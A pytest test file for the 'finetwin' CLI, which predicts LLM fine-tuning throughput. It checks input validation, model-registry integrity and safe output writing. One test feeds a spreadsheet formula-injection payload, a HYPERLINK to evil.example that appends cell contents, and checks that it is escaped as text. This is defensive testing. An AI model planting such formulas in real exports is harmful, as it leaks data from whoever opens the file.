"""The command-line contract: `finetwin calibrate`, `finetwin predict` and `finetwin models`, exactly as
scripts call them (through `finetwin.cli.main`)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from calibrate import serving, tree_walker
from calibrate.loader import CONFIG_COLUMNS, load_benchmark
from calibrate.predict import PREDICTION_COLUMNS
from calibrate.registry import ModelRegistry
from finetwin.cli import main

CONFIG_HEADER = ",".join(CONFIG_COLUMNS)


def read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def predict_argv(models: Path, configs: Path, output: Path) -> list[str]:
    return ["predict", "--models", str(models), "--input", str(configs), "--output", str(output)]


def config_row(**changes: str) -> str:
    row = {
        "identifier": "id", "experiment_id": "SFTTrainer.finetune-full-fsdp-v1.3.0", "method": "full",
        "model_name": "llama3-8b", "number_nodes": "1", "gpu_model": "NVIDIA-A100-SXM4-80GB",
        "number_gpus": "4", "tokens_per_sample": "2048", "batch_size": "16", "enable_roce": "0",
        "fast_moe": "0", "fast_kernels": "", "fms_hf_tuning_version": "2.4.0", "torch_dtype": "bfloat16",
    }  # fmt: skip
    row.update(changes)
    return ",".join(row[c] for c in CONFIG_COLUMNS)


def test_predict_gives_every_row_of_the_real_sample_in_order_with_exact_rules(
    calibrated_models_dir: Path, sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    output = tmp_path / "pred.csv"
    argv = predict_argv(calibrated_models_dir, sample_csv, output)
    assert main(argv) == 0
    assert "3983 rows predicted with v0001" in capsys.readouterr().out
    written, original = read(output), read(sample_csv)
    assert list(written.columns) == [*original.columns, *PREDICTION_COLUMNS]
    assert len(written) == len(original) == 3983
    # Same rows, same cells, same order.
    pd.testing.assert_frame_equal(written[list(original.columns)], original)
    truth = load_benchmark(sample_csv)
    assert set(written["outcome"]) <= {"valid", "rejected", "runtime"}
    rejected = written["outcome"] == "rejected"
    np.testing.assert_array_equal(rejected, truth["outcome"] == "rejected")  # the rules, exactly, every row
    assert list(written["rule"]) == list(truth["rule"].fillna(""))
    assert (written.loc[rejected, "p_valid"] == "0.0000").all()
    ran = written[~rejected]
    p10, p50, p90 = (ran[f"tokens_per_second_{q}"].astype(float) for q in ("p10", "p50", "p90"))
    assert ((p10 <= p50) & (p50 <= p90) & (p10 > 0)).all()
    p_valid = ran["p_valid"].astype(float)
    assert p_valid.between(0, 1).all()
    assert ((p_valid >= 0.5) == (ran["outcome"] == "valid")).all()
    # Far better than chance on rows it learned from: a check that the columns are not shuffled.
    valid = truth["outcome"] == "valid"
    ape = np.abs(
        written.loc[valid, "tokens_per_second_p50"].astype(float)
        - truth.loc[valid, "dataset_tokens_per_second"]
    )
    assert np.median(ape / truth.loc[valid, "dataset_tokens_per_second"]) < 0.25


def test_model_names_never_seen_are_predicted_from_their_size_and_flagged(
    calibrated_models_dir: Path, tmp_path: Path
) -> None:
    configs = tmp_path / "new.csv"
    configs.write_text(
        "\n".join(
            [
                CONFIG_HEADER,
                config_row(identifier="known"),
                config_row(identifier="small", model_name="acme-3b-chat", method="lora"),
                config_row(identifier="large", model_name="acme-70b-chat", method="lora"),
                config_row(identifier="nosize", model_name="mystery-model"),
            ]
        )
        + "\n"
    )
    output = tmp_path / "pred.csv"
    argv = predict_argv(calibrated_models_dir, configs, output)
    assert main(argv) == 0
    written = read(output).set_index("identifier")
    assert written.loc["known", "note"] == ""
    for unseen in ("small", "large", "nosize"):
        assert written.loc[unseen, "note"], f"{unseen} is flagged"
        assert float(written.loc[unseen, "tokens_per_second_p50"]) > 0
    # Its size is what it is predicted from: the 70B model is slower than the 3B one on the same GPUs.
    assert float(written.loc["large", "tokens_per_second_p50"]) < float(
        written.loc["small", "tokens_per_second_p50"]
    )


@pytest.mark.parametrize(
    ("rows", "line", "column", "row"),
    [
        ([config_row(), config_row(batch_size="sixteen")], 3, "batch_size", 2),
        ([config_row(), config_row(), config_row(number_gpus="0")], 4, "number_gpus", 3),
        ([config_row(method="qlora")], 2, "method", 1),
        ([config_row(), config_row(model_name="")], 3, "model_name", 2),
        ([config_row(), config_row(enable_roce="2")], 3, "enable_roce", 2),
        ([config_row(fast_kernels="maybe")], 2, "fast_kernels", 1),
        ([config_row(number_gpus="1e308")], 2, "number_gpus", 1),  # was a traceback (issue 10)
        ([config_row(), config_row(batch_size="1e12")], 3, "batch_size", 2),
    ],
)
def test_a_bad_cell_exits_nonzero_naming_row_and_column(
    calibrated_models_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    rows: list[str], line: int, column: str, row: int,
) -> None:  # fmt: skip
    configs = tmp_path / "bad.csv"
    configs.write_text("\n".join([CONFIG_HEADER, *rows]) + "\n")
    output = tmp_path / "pred.csv"
    argv = predict_argv(calibrated_models_dir, configs, output)
    assert main(argv) == 2
    error = capsys.readouterr().err
    assert f"line {line}" in error and f"column '{column}'" in error and f"data row {row}" in error, error
    assert not output.exists(), "nothing is written for bad input"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "empty file"),
        (CONFIG_HEADER.replace(",gpu_model", "") + "\n", "missing from the header: gpu_model "),
        (CONFIG_HEADER + "\n" + config_row() + ",extra\n", "line 2: has 15 fields, the header has 14"),
        (CONFIG_HEADER + ",outcome\n" + config_row() + ",valid\n", "column 'outcome'"),
    ],
)
def test_a_malformed_file_exits_nonzero_with_the_reason(
    calibrated_models_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    configs = tmp_path / "bad.csv"
    configs.write_text(text)
    output = tmp_path / "pred.csv"
    argv = predict_argv(calibrated_models_dir, configs, output)
    assert main(argv) == 2
    assert expected in capsys.readouterr().err
    assert not output.exists()


def test_a_file_with_too_many_columns_is_refused_from_its_header(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """100,000 columns took minutes (a quadratic duplicate check); now the header alone refuses it."""
    configs = tmp_path / "wide.csv"
    extra = "".join(f",x{i}" for i in range(100_000))
    configs.write_text(CONFIG_HEADER + extra + "\n" + config_row() + ",0" * 100_000 + "\n")
    output = tmp_path / "pred.csv"
    assert main(predict_argv(tmp_path / "no-models", configs, output)) == 2
    assert "line 1: has 100,014 columns; at most 256 are read" in capsys.readouterr().err
    assert not output.exists()


def test_predict_without_a_model_or_with_a_tampered_one_exits_nonzero(
    registry_copy: Path, sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    output = tmp_path / "pred.csv"
    argv = ["predict", "--input", str(sample_csv), "--output", str(output), "--models"]
    assert main([*argv, str(tmp_path / "nothing")]) == 2
    assert "no model version is in use" in capsys.readouterr().err
    artifact = sorted((registry_copy / "versions" / "v0001" / "estimators").glob("*.skops"))[0]
    artifact.write_bytes(artifact.read_bytes()[:-10])
    assert main([*argv, str(registry_copy)]) == 2
    assert "tampered or corrupted" in capsys.readouterr().err
    assert not output.exists()
    # `models show` shows it, and says so by its exit status (it was 0).
    assert main(["models", "show", "--models", str(registry_copy)]) == 1
    shown = capsys.readouterr()
    assert json.loads(shown.out)["verified"].startswith("FAILED: ") and "fails verification" in shown.err


DAMAGED_POINTER = {"garbage": "IN_USE.json cannot be read as JSON", "[]": "IN_USE.json is not a JSON object"}


@pytest.mark.parametrize("content", DAMAGED_POINTER)
def test_every_models_command_says_a_damaged_in_use_pointer_and_leaves_it_as_it_was(
    content: str, registry_copy: Path, sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`models list`, `models rollback` and `calibrate` ended in a RegistryError traceback (calibrate before
    it fitted anything, as now it says so)."""
    (registry_copy / "IN_USE.json").write_text(content)
    before = {path: path.read_bytes() for path in registry_copy.rglob("*") if path.is_file()}
    models = ["--models", str(registry_copy)]
    commands = [
        ["models", "list", *models], ["models", "list", "--json", *models], ["models", "show", *models],
        ["models", "rollback", *models], ["models", "promote", "v0001", *models],
        ["calibrate", "--bench", str(sample_csv), *models],
        predict_argv(registry_copy, sample_csv, tmp_path / "pred.csv"),
    ]  # fmt: skip
    for command in commands:
        assert main(command) == 2, command
        error = capsys.readouterr().err
        assert DAMAGED_POINTER[content] in error and "Traceback" not in error, (command, error)
        assert "restore it, or put a version in use anew: finetwin models promote VERSION --force" in error
    assert {path: path.read_bytes() for path in registry_copy.rglob("*") if path.is_file()} == before
    # What the message says to do works: --force puts a version in use again, over the damaged pointer.
    assert main(["models", "promote", "v0001", "--force", *models]) == 0
    assert "the in-use pointer that could not be read was replaced" in capsys.readouterr().out
    assert ModelRegistry(registry_copy).in_use() == "v0001"
    assert main(["models", "list", *models]) == 0 and "* v0001" in capsys.readouterr().out


def test_a_models_directory_that_is_a_file_is_said_by_every_command(
    sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`models list` said "No model versions in FILE", `calibrate` fitted and then failed with "FILE/versions:
    Not a directory", and the API started and logged a traceback at every refit."""
    named = tmp_path / "models.tar"
    named.write_text("not a directory")
    models = ["--models", str(named)]
    commands = [
        ["models", "list", *models], ["models", "show", *models], ["models", "rollback", *models],
        ["models", "promote", "v0001", *models], ["calibrate", "--bench", str(sample_csv), *models],
        predict_argv(named, sample_csv, tmp_path / "pred.csv"),
    ]  # fmt: skip
    for command in commands:
        assert main(command) == 2, command
        error = " ".join(capsys.readouterr().err.split())
        assert f"the model registry {named} is a file, not a directory" in error, (command, error)
    # Named by the setting: refused at the start, as any invalid setting is, by the API too.
    monkeypatch.setenv("FINETWIN_MODELS_DIR", str(named))
    for command in (["info"], ["models", "list"], ["api", "--port", "0"]):
        assert main(command) == 2, command
        error = " ".join(capsys.readouterr().err.split())
        said = f"invalid setting: FINETWIN_MODELS_DIR: a file, not a directory (got '{named}')"
        assert said in error, error
    assert named.read_text() == "not a directory"


def test_models_list_says_a_version_whose_metadata_is_damaged(
    registry_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    metadata = registry_copy / "versions" / "v0001" / "metadata.json"
    metadata.write_text('{"data": [1,')
    assert main(["models", "list", "--models", str(registry_copy)]) == 2
    assert f"{metadata} cannot be read as JSON" in capsys.readouterr().err


def test_calibrate_wrote_a_version_that_models_list_and_show_report(
    calibrated_models_dir: Path, sample_csv: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The session's registry was made by `finetwin calibrate --models DIR` (conftest): no --bench, so
    # the bundled sample, as `report` and `replay` default to it.
    printed = (calibrated_models_dir.parent / "calibrate.out").read_text()
    assert printed.startswith("v0001: 3983 rows") and "in use (the first version)" in printed
    assert "rows: benchmark:llmftbench_sample.csv 3983" in printed and "throughput_mdape" in printed
    models = str(calibrated_models_dir)
    assert main(["models", "list", "--models", models]) == 0
    listing = capsys.readouterr().out
    assert "* v0001" in listing and " 3983 " in listing and " benchmark " in listing
    assert main(["models", "list", "--models", models, "--json"]) == 0
    (listed,) = json.loads(capsys.readouterr().out)
    assert listed["version"] == "v0001" and listed["in_use"] is True and listed["rows"] == 3983
    assert listed["rows_by_source"] == {f"benchmark:{sample_csv.name}": 3983}
    assert listed["heldout_metrics"]["throughput_mdape"] > 0
    assert main(["models", "show", "--models", models]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["version"] == "v0001" and shown["in_use"] is True
    assert shown["verified"] == "every artifact matches its manifest"
    assert shown["data"]["rows_by_source"] == {f"benchmark:{sample_csv.name}": 3983}
    assert main(["models", "rollback", "--models", models]) == 2
    assert "nothing to roll back to" in capsys.readouterr().err
    assert main(["models", "show", "v0009", "--models", models]) == 2
    assert "no version v0009" in capsys.readouterr().err
    assert main(["models", "promote", "v0001", "--models", models]) == 0
    assert "already in use" in capsys.readouterr().out
    assert ModelRegistry(calibrated_models_dir).in_use() == "v0001"


def test_calibrate_refuses_a_bad_benchmark_naming_line_and_column(
    sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.csv"
    rows = list(csv.reader(sample_csv.open()))
    rows[5][rows[0].index("is_valid")] = "yes"
    with bad.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows[:20])
    models = tmp_path / "models"
    assert main(["calibrate", "--bench", str(bad), "--models", str(models)]) == 2
    error = capsys.readouterr().err
    assert "line 6" in error and "column 'is_valid'" in error
    assert not (models / "versions").exists() or not list((models / "versions").iterdir())


def test_calibrate_observed_reads_the_store_named_by_the_settings(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The store is created and migrated, and holds no finished run yet: nothing to fit on, said so.
    # (Fits with observed runs: tests/calibrate/test_live.py, where drift triggers one.)
    monkeypatch.setenv("FINETWIN_DATABASE_URL", sqlite_url)
    models = tmp_path / "models"
    assert main(["calibrate", "--observed", "--models", str(models)]) == 2
    assert "no rows to fit on" in capsys.readouterr().err
    assert Path(sqlite_url.removeprefix("sqlite:///")).exists()
    assert ModelRegistry(models).versions() == []


def test_predict_never_replaces_a_file_unless_forced(
    calibrated_models_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    configs = tmp_path / "configs.csv"
    configs.write_text("\n".join([CONFIG_HEADER, config_row()]) + "\n")
    output = tmp_path / "pred.csv"
    output.write_text("yesterday's predictions\n")
    argv = predict_argv(calibrated_models_dir, configs, output)
    assert main(argv) == 2
    assert "already exists; use --force to overwrite it" in capsys.readouterr().err
    assert output.read_text() == "yesterday's predictions\n"
    output.chmod(0o444)
    assert main([*argv, "--force"]) == 2
    assert "is read-only" in capsys.readouterr().err
    output.chmod(0o644)
    assert main([*argv, "--force"]) == 0
    assert len(read(output)) == 1 and read(output)["outcome"][0] in {"valid", "rejected", "runtime"}
    assert main(predict_argv(calibrated_models_dir, configs, tmp_path)) == 2  # a directory: no traceback
    assert "is a directory" in capsys.readouterr().err


def test_predict_writes_formula_cells_as_text(
    calibrated_models_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A cell such as =HYPERLINK(...) came out as it went in, and ran when the CSV was opened."""
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    configs = tmp_path / "configs.csv"
    with configs.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(CONFIG_COLUMNS)
        writer.writerow(config_row(identifier=formula.replace('"', "'"), experiment_id="@SUM(A1)").split(","))
    output = tmp_path / "pred.csv"
    assert main(predict_argv(calibrated_models_dir, configs, output)) == 0
    (row,) = list(csv.DictReader(output.open(newline="")))
    assert row["identifier"] == "'" + formula.replace('"', "'")
    assert row["experiment_id"] == "'@SUM(A1)"
    assert row["number_gpus"] == "4" and float(row["p_valid"]) >= 0  # numbers stay numbers


def test_report_out_never_replaces_files_unless_forced(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_file = tmp_path / "notes.txt"
    a_file.write_text("mine")
    assert (
        main(["report", "--bench", "bundled", "--out", str(a_file)]) == 2
    )  # was a traceback (FileExistsError)
    assert "is a file, not a directory" in capsys.readouterr().err
    earlier = tmp_path / "earlier"
    earlier.mkdir()
    (earlier / "report.md").write_text("an earlier report")
    assert main(["report", "--bench", "bundled", "--out", str(earlier)]) == 2
    assert "already holds report.md; use --force" in capsys.readouterr().err
    assert (earlier / "report.md").read_text() == "an earlier report"


def test_predict_walks_the_trees_at_once_and_never_waits_for_a_compile(
    calibrated_models_dir: Path, sample_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A cache without the version's snapshot (a registry calibrated elsewhere): predict loads the version
    from the registry, walks its trees (calibrate/tree_walker.py) without compiling them, and leaves the
    snapshot, which the next run loads; once a long-lived process has compiled the trees and named them in
    the snapshot, the file is the same to the byte; and it holds scikit-learn's numbers."""
    large = tmp_path / "large.csv"
    pd.concat([read(sample_csv)] * 2, ignore_index=True).to_csv(large, index=False)
    cache = tmp_path / "cache"
    monkeypatch.setenv("FINETWIN_CACHE_DIR", str(cache))
    assert main(predict_argv(calibrated_models_dir, large, tmp_path / "walked.csv")) == 0
    # At most the walker's library: none of the version's own trees was compiled.
    walker = tree_walker.walker()
    assert walker is not None
    assert {p.name for p in (cache / "trees").glob("*.so")} <= {walker.path.name}
    assert len(list((cache / "trees").glob("serving-*.json"))) == 1
    assert main(predict_argv(calibrated_models_dir, large, tmp_path / "snapshot.csv")) == 0
    assert (tmp_path / "snapshot.csv").read_bytes() == (tmp_path / "walked.csv").read_bytes()
    registry = ModelRegistry(calibrated_models_dir)
    version, models = registry.load_in_use()  # type: ignore[misc]
    assert models.prepare_native(wait=True)  # as the API's reader does in the background
    serving.save(registry, version, models)
    loaded = serving.load_in_use(registry)
    assert loaded is not None and loaded[1].tree_engine() == "native"
    assert main(predict_argv(calibrated_models_dir, large, tmp_path / "native.csv")) == 0
    assert (tmp_path / "native.csv").read_bytes() == (tmp_path / "walked.csv").read_bytes()
    monkeypatch.setenv("FINETWIN_NATIVE_TREES", "off")
    assert main(predict_argv(calibrated_models_dir, large, tmp_path / "reference.csv")) == 0
    walked, reference = read(tmp_path / "walked.csv"), read(tmp_path / "reference.csv")
    assert len(walked) == 2 * len(read(sample_csv))
    assert list(walked["outcome"]) == list(reference["outcome"])
    for column in ("p_valid", "tokens_per_second_p10", "tokens_per_second_p50", "tokens_per_second_p90"):
        got, want = (
            walked[column].replace("", "nan").astype(float),
            reference[column].replace("", "nan").astype(float),
        )
        np.testing.assert_allclose(got, want, rtol=1e-5, err_msg=column)


@pytest.mark.parametrize(
    ("by_source", "said"),
    [({"benchmark:a.csv": 10}, "benchmark"),
     ({"benchmark:a.csv": 10, "observed": 1200}, "benchmark + 1,200 observed"),
     ({"observed": 5}, "5 observed"), ({}, "-")],
)  # fmt: skip
def test_models_list_says_what_each_version_learned_from(by_source: dict[str, int], said: str) -> None:
    """Every version's reason read "finetwin calibrate", with observed runs or without."""
    from finetwin.commands.models import _sources

    assert _sources({"rows_by_source": by_source}) == said


def rows_of(sample_csv: Path, tmp_path: Path, valid: int, runtime: int) -> Path:
    """A benchmark file of the sample's first `valid` valid runs and `runtime` runtime failures."""
    table = load_benchmark(sample_csv)
    lines = sorted(
        [
            *table.loc[table["outcome"] == "valid", "line"][:valid],
            *table.loc[table["outcome"] == "runtime", "line"][:runtime],
        ]
    )
    text = sample_csv.read_text().splitlines()
    path = tmp_path / f"few-{valid}.csv"
    path.write_text("\n".join([text[0], *(text[line - 1] for line in lines)]) + "\n")
    return path


def test_calibrate_on_too_few_runs_says_how_many_it_needs(
    sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    few = rows_of(sample_csv, tmp_path, valid=11, runtime=10)
    assert main(["calibrate", "--bench", str(few), "--models", str(tmp_path / "models")]) == 2
    error = " ".join(capsys.readouterr().err.split())
    # Was "need at least one array to concatenate": 10 and 11 runs passed the check of 10, and then every
    # fold that measures the errors out of fold had fewer than 10 to fit on.
    assert "need at least 12 valid runs to fit throughput" in error and "got 11" in error, error


def test_calibrate_on_just_enough_runs_fits_a_version_without_a_held_out_measure(
    sample_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    enough = rows_of(sample_csv, tmp_path, valid=12, runtime=10)
    models = tmp_path / "models"
    assert main(["calibrate", "--bench", str(enough), "--models", str(models)]) == 0
    printed = " ".join(capsys.readouterr().out.split())
    # The version is fitted on all 12; the comparison's fit on the split's training part has fewer.
    assert "in use (the first version)" in printed, printed
    assert "not measured on held-out rows: need at least 12 valid runs to fit throughput" in printed, printed
    assert ModelRegistry(models).in_use() == "v0001"
